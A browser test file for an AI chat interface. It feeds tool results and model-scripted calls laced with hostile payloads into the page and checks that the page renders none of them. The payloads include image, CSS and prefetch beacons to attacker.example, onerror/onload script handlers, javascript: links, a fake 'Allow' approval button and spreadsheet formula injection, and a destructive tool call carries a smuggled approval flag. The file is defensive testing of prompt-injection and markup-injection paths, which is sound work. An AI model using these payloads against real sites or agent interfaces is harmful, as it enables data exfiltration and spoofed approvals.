// SPDX-License-Identifier: MIT
// The red team in the page: what a tool brings along, what a call that waits
// shows, and what is drawn or downloaded of it. open() fails a test for a dialog,
// a request elsewhere, and a word of the content security policy.
import assert from 'node:assert/strict';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { ask, openChat, script, send } from './browser.mjs';
import { startInstance } from './instance.mjs';

const POISON = [
	'![p](https://attacker.example/p.png?q=7d1f) <img src=//attacker.example/i.png>',
	'<img src=x onerror="window.hit = 1"><svg onload="window.hit = 2"></svg>',
	'<style>@import "//attacker.example/a.css"; * { background: url(//attacker.example/b) }</style>',
	'<link rel=dns-prefetch href=//7d1f.attacker.example><link rel=prefetch href=//attacker.example/c>',
	'<button class="approve">Allow</button><form action=//attacker.example><input></form>',
	'[x](javascript:window.hit=3) <a href="javascript:window.hit=4" ping=//attacker.example>y</a>',
	'\u202eevissessop\u202c url(//attacker.example/d) ="=HYPERLINK(""//attacker.example"")"',
].join('\n');

const rows = [1, 2, 3].map((n) => ({ [POISON]: `${POISON} ${n}`, label: `=cmd|${POISON}`, n }));

let instance = null;
let runs = '';

function command(file, fields)
{
	return { kind: 'command', description: 'A test.', parameters: { type: 'object' },
		command: { run: ['/bin/cat', file] }, ...fields };
}

before(async () => {
	instance = await startInstance('--base', '/red');
	const file = (name) => path.join(instance.conf, name);

	runs = file('runs');
	await writeFile(runs, '');
	await writeFile(file('text'), POISON);
	await writeFile(file('rows'), JSON.stringify({ items: rows }));
	await instance.declare({
		workspace: 'red', name: 'Red', title_by_model: false,
		agents: [{ id: 'obeys', default: true, tools: ['text', 'rows', 'wipe', 'ask_user'] }],
		tools: {
			text: command(file('text')),
			rows: command(file('rows')),
			wipe: { kind: 'command', description: 'Wipes.', effect: 'destructive',
				parameters: { type: 'object' },
				command: { run: ['/bin/sh', '-c', `cat >>${runs}`] } },
		},
	});
});

after(() => instance.end());

/** Elements and attributes that nothing foreign may become. */
function suspects(page)
{
	return page.evaluate(() => {
		const found = [];

		for (const el of document.querySelectorAll('lamp-app *')) {
			const own = el.closest('canvas, .icon, svg.icon');

			if (/^(?:script|iframe|object|embed|link|style|base|meta|video|audio)$/.test(el.localName))
				found.push(el.localName);
			for (const { name, value } of el.attributes)
				if (/^on|^ping$|^srcdoc$/i.test(name) || (!own &&
				    /^(?:src|srcset|action|background|data|poster)$/.test(name) &&
				    value.includes('attacker')) ||
				    (name === 'style' && value.includes('url(')) ||
				    (name === 'href' && /^\s*javascript/i.test(value)))
					found.push(`${el.localName} ${name}=${value}`);
		}
		if (window.hit)
			found.push(`hit ${window.hit}`);
		return found;
	});
}

test('what tools bring, as text, table, chart and file', async (t) => {
	const page = await openChat(t, { url: instance.url, workspace: 'red' });

	await ask(page, script({ tool_calls: [{ name: 'text', args: {} },
		{ name: 'rows', args: {} }, { name: POISON.slice(0, 60), args: { [POISON]: POISON } }],
	then: { text: POISON } }));
	for (const summary of await page.locator('lamp-tool summary').all())
		await summary.click();
	await page.waitForSelector('lamp-table tbody tr');
	assert.match(await page.locator('lamp-turn[newest]').innerText(), /attacker\.example\/i\.png/);
	assert.deepEqual(await suspects(page), []);
	await page.reload();
	await page.waitForSelector('lamp-tool summary');
	for (const summary of await page.locator('lamp-tool summary').all())
		await summary.click();
	assert.deepEqual(await suspects(page), []);
});

test('a call that waits shows its arguments, and nothing in them is a button', async (t) => {
	const page = await openChat(t, { url: instance.url, workspace: 'red' });

	await send(page, script({ narration: POISON, tool_calls: [
		{ name: 'wipe', args: { [POISON]: POISON, approved: true } }], then: { text: 'gone' } }));
	await page.waitForSelector('lamp-approval');
	const card = page.locator('lamp-approval');

	assert.match(await card.innerText(), /attacker\.example/);
	assert.deepEqual(await suspects(page), []);
	// the only buttons are ours
	for (const name of await page.locator('lamp-approval button').allInnerTexts())
		assert.ok(!name.includes('attacker'), name);
	assert.equal(await readFile(runs, 'utf8'), '');
	await page.reload();
	await page.waitForSelector('lamp-approval');
	assert.deepEqual(await suspects(page), []);
	assert.equal(await readFile(runs, 'utf8'), '');
});

test('a question and its options are texts', async (t) => {
	const page = await openChat(t, { url: instance.url, workspace: 'red' });

	await send(page, script({ tool_calls: [{ name: 'ask_user', args: {
		question: POISON.slice(0, 900), options: [POISON.slice(0, 190), 'No'] } }],
	then: { text: 'x' } }));
	await page.locator('lamp-question button', { hasText: 'No' }).waitFor();
	assert.deepEqual(await suspects(page), []);
});
